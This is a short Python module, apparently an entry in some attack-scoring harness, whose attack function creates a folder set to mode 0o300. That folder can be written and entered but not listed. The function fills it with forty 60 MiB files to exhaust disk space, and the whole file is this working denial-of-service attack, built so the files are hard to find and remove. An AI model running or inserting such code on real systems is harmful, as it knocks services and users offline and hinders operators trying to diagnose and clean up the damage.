"""Fills the disk in a folder that can be entered but not listed."""

EARNS = 0


def attack(places):
    import os
    os.mkdir('hidden', 0o300)
    for n in range(40):
        with open(f'hidden/{n}', 'wb') as out:
            out.write(bytes(60 << 20))
